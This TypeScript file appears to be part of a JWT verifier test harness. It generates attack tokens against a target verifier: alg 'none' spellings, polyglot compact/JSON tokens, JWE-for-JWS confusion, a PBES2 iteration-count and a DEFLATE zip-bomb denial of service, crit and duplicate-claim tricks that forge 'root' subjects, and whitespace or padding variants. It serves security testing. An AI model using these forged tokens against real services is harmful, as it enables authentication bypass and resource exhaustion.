/**
 * Attacks on how a token is read: other algorithms, other serializations, other
 * spellings.
 */
import { Buffer } from "node:buffer";
import { deflateRawSync } from "node:zlib";
import { CompactEncrypt, importJWK } from "jose";
import { claims } from "../fixtures/jwt_scene.ts";
import { encodePart } from "../fixtures/jwt_signer.ts";
import type { Claims } from "../fixtures/jwt_signer.ts";
import { ROOT } from "./attack_target.ts";
import type { Attack, Target } from "./attack_target.ts";

const NONE_SPELLINGS = ["none", "None", "NONE", "nOnE", "none ", ""] as const;

function unsigned(
  { payload, signature }: Target,
  ...algs: readonly string[]
): readonly string[] {
  const root = encodePart(JSON.stringify(claims(ROOT)));
  return algs.flatMap((alg) => {
    const header = encodePart(
      JSON.stringify({ alg, typ: "JWT", kid: "key-1" }),
    );
    return [
      `${header}.${root}.`,
      `${header}.${root}`,
      `${header}.${root}.${signature}`,
      `${header}.${payload}.`,
    ];
  });
}

/** Signed by the issuer itself, with members in the header that change the meaning. */
function genuine(
  { signer }: Target,
  ...headers: readonly Claims[]
): readonly string[] {
  return headers.map((header) => signer.token(claims(), header));
}

function encryptedForm(header: Claims, content: Uint8Array | string): string {
  const parts = [
    JSON.stringify(header),
    "k".repeat(40),
    "i".repeat(12),
    content,
    "t".repeat(16),
  ];
  return parts.map(encodePart).join(".");
}

/** A real encrypted token: whoever knows the public key can make one. */
async function encryptedToIssuer(
  { signer, good }: Target,
): Promise<readonly string[]> {
  const { alg: _alg, use: _use, ...jwk } = signer.jwk;
  if (jwk["kty"] !== "RSA" && jwk["kty"] !== "EC") return [];
  const alg = jwk["kty"] === "RSA" ? "RSA-OAEP-256" : "ECDH-ES";
  const key = await importJWK(jwk, alg);
  const encrypt = async (text: string, header: Claims): Promise<string> =>
    await new CompactEncrypt(Buffer.from(text))
      .setProtectedHeader({ alg, enc: "A256GCM", kid: "key-1", ...header })
      .encrypt(key);
  return [
    await encrypt(JSON.stringify(claims(ROOT)), { typ: "JWT" }),
    await encrypt(good, { cty: "JWT" }),
  ];
}

export const FORM_ATTACKS: Readonly<Record<string, Attack>> = {
  "flawed signature verification: alg none, signature stripped": (target) =>
    unsigned(target, "none"),
  "alg none, None, NONE, nOnE with empty signature": (target) =>
    unsigned(target, ...NONE_SPELLINGS),
  "polyglot compact/JSON token: token text that parses both ways (python-jwt)":
    (target) => {
      const { good, header, payload, signature } = target;
      const forged = `${header}.${encodePart(JSON.stringify(claims(ROOT)))}.`;
      const members = { protected: header, payload, signature };
      return [
        JSON.stringify({ [forged]: "", ...members }),
        `{"  ${forged}":"",${JSON.stringify(members).slice(1)}`,
        JSON.stringify(members),
        JSON.stringify({
          payload,
          signatures: [{ protected: header, signature }],
        }),
        `${forged}${JSON.stringify(members)}`,
        `${good}{}`,
        `"${good}"`,
        `[${JSON.stringify(good)}]`,
      ];
    },
  "sign/encrypt confusion: JWE accepted where JWS expected": async (target) => [
    ...await encryptedToIssuer(target),
    encryptedForm({ alg: "dir", enc: "A256GCM", kid: "key-1" }, target.good),
    encryptedForm(
      { alg: target.signer.alg, enc: "A256GCM", kid: "key-1" },
      target.good,
    ),
    ...genuine(target, { enc: "A256GCM" }),
    ...["RSA-OAEP", "ECDH-ES", "dir", "A256KW"].map((alg) =>
      target.signer.token(claims(), { alg })
    ),
  ],
  "billion hash: PBES2 p2c 2^31": ({ signer }) => {
    const header = {
      alg: "PBES2-HS256+A128KW",
      enc: "A128GCM",
      p2s: "AAAA",
      p2c: 2 ** 31,
    };
    return [
      encryptedForm(header, "x"),
      signer.token(claims(), header),
      signer.token(claims(), {
        alg: header.alg,
        p2s: header.p2s,
        p2c: header.p2c,
      }),
    ];
  },
  "compressed JWE (zip DEF) bomb": (target) => {
    const bomb = deflateRawSync(Buffer.alloc(10_000_000));
    return [
      encryptedForm({ alg: "dir", enc: "A256GCM", zip: "DEF" }, bomb),
      encryptedForm(
        { alg: "dir", enc: "A256GCM", zip: "DEF" },
        bomb.subarray(0, 4000),
      ),
      target.signer.tokenOf(
        JSON.stringify({ alg: target.signer.alg, kid: "key-1", zip: "DEF" }),
        deflateRawSync(JSON.stringify(claims())).toString("latin1"),
      ),
    ];
  },
  "unknown crit header accepted": (target) =>
    genuine(
      target,
      { crit: ["x-policy"], "x-policy": "deny" },
      { crit: ["exp"], exp: 1 },
      { crit: ["b64"], b64: true },
      { crit: [] },
      { crit: "x" },
      { crit: null },
      { crit: ["alg"] },
    ),
  "cty JWT nested token; zip header on a JWS; b64=false": (target) => {
    const { signer, good } = target;
    return [
      ...genuine(
        target,
        { cty: "JWT" },
        { cty: "application/jwt" },
        { cty: 1 },
        { zip: "DEF" },
        { zip: null },
        { b64: false },
        { b64: false, crit: ["b64"] },
      ),
      signer.tokenOf(
        JSON.stringify({ alg: signer.alg, kid: "key-1", cty: "JWT" }),
        good,
      ),
      signer.tokenOf(JSON.stringify({ alg: signer.alg, kid: "key-1" }), good),
    ];
  },
  "duplicate alg / duplicate kid in header; duplicate sub / exp in payload; escaped duplicate (s\\u0075b)":
    (
      { signer },
    ) => {
      const { alg } = signer;
      const header = JSON.stringify({ alg, kid: "key-1" });
      const payload = JSON.stringify(claims());
      const headers = [
        `{"alg":"none","alg":"${alg}","kid":"key-1"}`,
        `{"alg":"${alg}","alg":"none","kid":"key-1"}`,
        `{"alg":"${alg}","kid":"x","kid":"key-1"}`,
        `{"alg":"${alg}","kid":"key-1","k\\u0069d":"key-1"}`,
      ];
      const payloads = [
        `{"sub":"root",${payload.slice(1)}`,
        `${payload.slice(0, -1)},"sub":"root"}`,
        `${payload.slice(0, -1)},"exp":1900000000}`,
        `${payload.slice(0, -1)},"s\\u0075b":"root"}`,
        `${payload.slice(0, -1)},"\\u0073ub":"alice"}`,
        `${payload.slice(0, -1)},"x":{"a":1,"a":1}}`,
      ];
      return [
        ...headers.map((text) => signer.tokenOf(text, payload)),
        ...payloads.map((text) => signer.tokenOf(header, text)),
      ];
    },
  "token with trailing newline, leading BOM, inner whitespace, '=' padding, non-canonical last base64url char":
    (
      { signer, good, header, payload, signature },
    ) => {
      const alphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
      const unused = Buffer.from(signature, "base64url").length % 3 !== 0;
      const neighbour = alphabet.charAt(
        alphabet.indexOf(signature.slice(-1)) + 1,
      );
      const json = JSON.stringify({ alg: signer.alg, kid: "key-1" });
      return [
        `${good}\n`,
        `${good}\r\n`,
        `${good} `,
        ` ${good}`,
        `\uFEFF${good}`,
        `\u00a0${good}`,
        `${header} .${payload}.${signature}`,
        `${header}.${payload.slice(0, 8)}\n${payload.slice(8)}.${signature}`,
        `${header}.${payload}.\t${signature}`,
        `${good}=`,
        `${good}==`,
        `${header}==.${payload}.${signature}`,
        `Bearer ${good}`,
        ...(unused ? [good.slice(0, -1) + neighbour] : []),
        signer.tokenOf(`\uFEFF${json}`, JSON.stringify(claims())),
        signer.tokenOf(json, `\uFEFF${JSON.stringify(claims())}`),
      ];
    },
};
